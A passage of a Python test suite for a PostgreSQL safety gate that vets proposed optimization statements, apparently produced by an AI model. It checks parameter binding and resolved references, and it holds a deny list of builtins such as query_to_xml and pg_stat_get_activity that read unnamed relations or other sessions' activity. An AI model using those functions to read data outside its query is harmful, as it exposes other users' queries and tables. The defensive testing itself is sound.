    assert refusals(fork_conn, case) == ()  # the same statement in a session without it


def test_the_pure_part_passes_what_only_the_catalog_refuses() -> None:
    """The catalog is needed: structure alone accepts these (the review found 24 such)."""
    pure_only = [c for c in CATALOG_DANGEROUS if c.kind not in ("query", "rewrite")]
    assert sum(validate_proposal(c.sql, c.kind).is_valid for c in pure_only) >= 30


# -- what PostgreSQL is asked to resolve (pure half; tests/test_catalog_gate.py runs it) -------------
def test_ordered_set_aggregates_are_looked_up_with_their_within_group_arguments() -> None:
    refs = query_references("SELECT percentile_cont(0.9) WITHIN GROUP (ORDER BY total_amount), "
                            "mode() WITHIN GROUP (ORDER BY status), count(*) FROM orders")
    nargs = {r.name: r.nargs for r in refs.refs if r.kind == "function"}
    assert nargs == {"percentile_cont": 2, "mode": 1, "count": 0}


@pytest.mark.parametrize("name", ["table_to_xml", "schema_to_xmlschema", "database_to_xml_and_xmlschema",
                                  "pg_stat_get_activity", "pg_stat_get_backend_pid", "pg_blocking_pids",
                                  "pg_lock_status", "query_to_xml"])
def test_builtins_that_read_what_the_query_does_not_name_are_denied(name: str) -> None:
    assert denied_function((name,)) and denied_function(("pg_catalog", name))
    with pytest.raises(UnsafeSqlError, match="reads relations named as text or other sessions' activity"):
        check_query(f"SELECT {name}('x') FROM orders")


def test_a_column_named_like_them_is_not_refused() -> None:
    assert check_query("SELECT table_to_xml FROM orders") == "SELECT table_to_xml FROM orders"


def test_parameters_are_bound_as_typed_nulls() -> None:
    sql = "SELECT id FROM orders WHERE user_id = $1 AND status = '$2' AND created_at > $12"
    assert parameter_count(sql) == 12
    assert parameter_count("SELECT 1") == 0
    types = ["bigint"] + ["text"] * 10 + ["timestamp with time zone"]
    assert bind_parameters(sql, types) == ("SELECT id FROM orders WHERE user_id = (NULL::bigint) AND "
                                           "status = '$2' AND created_at > (NULL::timestamp with time zone)")


def test_what_each_statement_asks_postgresql_to_resolve() -> None:
    def targets(ptype: Any, *sql: str) -> list[tuple[str, str]]:
        p = OptimizationProposal("gemini25pro", ptype, sql, (), "t", EstimatedImpact(50, 0, "low", "low"))
        return [(t.kind, t.sql) for t in proposal_references(p).targets]

    assert targets("index", "CREATE INDEX i ON orders (lower(status), id) WHERE total_amount > 0") == [
        ("index", "SELECT (lower(status)) AS e1 FROM orders WHERE total_amount > 0")]
    assert targets("index", "CREATE INDEX i ON orders (id)") == []
    assert targets("statistics", "CREATE STATISTICS s ON (a + b), (c::date), d FROM t") == [
        ("index", "SELECT (a + b) AS e1, (CAST(c AS date)) AS e2 FROM t")]
    assert targets("materialized_view", "CREATE MATERIALIZED VIEW m AS SELECT o.total FROM orders o",
                   "REFRESH MATERIALIZED VIEW m") == [
        ("matview", "CREATE MATERIALIZED VIEW m AS SELECT o.total FROM orders AS o WITH NO DATA"),
        ("read", "SELECT 1 FROM m")]
    recipe = (*PARTITION_PREFIX, "ALTER TABLE orders RENAME TO o_old",
              "ALTER TABLE orders_p RENAME TO orders")
    assert [kind for kind, _ in targets("partitioning", *recipe)] == [
        "create", "create", "read", "execute", "execute"]
    assert query_references("SELECT 1").targets[0].kind == "read"
    # a partition of an existing table is not created ahead (its default partition would be scanned)
    assert targets("partitioning", "CREATE TABLE p9 PARTITION OF existing FOR VALUES FROM (1) TO (2)") == []
    assert query_references("DELETE FROM orders").targets == ()  # only what check_query accepts
